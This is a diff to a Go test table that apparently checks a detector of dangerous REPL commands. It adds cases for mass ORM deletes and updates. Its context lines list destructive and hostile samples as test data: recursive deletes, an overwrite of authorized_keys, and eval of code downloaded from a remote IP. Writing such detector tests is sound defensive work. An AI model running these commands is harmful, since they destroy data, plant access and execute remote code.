@@ -165,6 +165,9 @@ var surfaceTable = map[string][]surfaceCase{
 	},
 	// python3: the library reference (shutil, os, pathlib, subprocess, sqlite3) and help().
 	"python3": {
+		// round 13: a name last bound to a model's every row before its delete or update (not one narrowed since)
+		d("pending = Invoice.objects\npending.update(paid=True)"), d("q = db.session.query(AuditEvent)\nn = q.delete()"), d("rows = Ticket.query\nrows.delete()"),
+		o("qs = Order.objects.all()\nqs = qs.filter(status='cancelled')\nqs.delete()"), o("q = session.query(User).filter(User.id == 5)\nq.delete()"), o("s = set()\ns.update([1, 2])"),
 		// tune8 classes: a name that may be empty, then + '/', deleted recursively is the root when it is; a name bound to a literal is that literal
 		d("dest = os.environ.get('DEST', ''); shutil.rmtree(dest + '/')"), d("shutil.rmtree(cfg.output_dir + '/', ignore_errors=True)"),
 		o("dest = 'build'; shutil.rmtree(dest + '/')"), o("shutil.rmtree(tmp_dir + '/')"),
@@ -299,6 +302,8 @@ var surfaceTable = map[string][]surfaceCase{
 	},
 	// ipython: the magics (%lsmagic, %quickref) and ! shell escapes.
 	"ipython": {
+		// round 13: a name last bound to a model's every row before its update
+		d("everything = Customer.objects.all()\neverything.update(newsletter=False)"), o("settings = Config.objects.all()\nprint(settings.count())"),
 		// values followed: {name} and $name in the escapes expand literals bound in the cell; %store > writes a file
 		d("dest = '/home/ops/reports'\n!rm -rf {dest}"), d("repo = '~/code/api'\nout = !git -C $repo clean -fdx"), o("dest = 'build/reports'\n!rm -rf {dest}"),
 		d("%store cfg >~/.ssh/authorized_keys"), o("%store cfg >notes.txt"), o("%store cfg"),
@@ -376,6 +381,8 @@ var surfaceTable = map[string][]surfaceCase{
 	},
 	// irb: the FileUtils, File, Dir, Kernel, Process and ENV docs, and ActiveRecord's.
 	"irb": {
+		// round 13: a name last bound to a model's every row before its delete_all/destroy_all
+		d("scope = Session.all; scope.destroy_all"), o("rel = Order.where(state: 'draft')\nrel.delete_all"),
 		// values followed: a symbol or literal bound to a name and sent; a download evaluated without parentheses; stdio reopened on a socket; save-file; history emptied
 		d("m = :remove_dir; FileUtils.send(m, '/srv/shared')"), o("m = :mkdir_p; FileUtils.send(m, 'tmp/cache')"),
 		d("Kernel.eval Net::HTTP.get(URI('https://203.0.113.20/x.rb'))"), o("JSON.parse Net::HTTP.get(URI('https://api.example.org/v1'))"),
